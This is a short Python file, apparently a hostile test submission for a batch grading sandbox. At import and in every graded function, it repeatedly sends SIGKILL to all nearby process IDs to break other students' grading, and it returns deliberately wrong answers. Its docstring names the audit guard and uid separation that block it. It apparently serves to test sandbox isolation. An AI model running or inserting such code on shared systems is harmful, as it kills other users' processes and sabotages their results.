"""Batch grading: reach the other students' children. Sweep the pids around
our own and SIGKILL each (the grader's pipes break, their steps fail), over
and over, at import and in every step. ``os.kill`` is audited, so the guard
refuses it; with the guard off (``uid_only``) only the kernel stands in the
way: it refuses a signal to a process of another uid, and in ``batch`` each
student has one of their own."""
os = __import__("os")
time = __import__("time")


def sweep(seconds):
    me = os.getpid()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for pid in range(max(2, me - 200), me + 200):
            if pid != me:
                try:
                    os.kill(pid, 9)
                except Exception:  # noqa: BLE001
                    pass
        time.sleep(0.005)


sweep(1.0)


def step(*args):
    """Every step (square(x), cube(x), total(xs)): sweep for 0.6 s, then a wrong 0.0."""
    sweep(0.6)
    return 0.0


square = cube = total = step
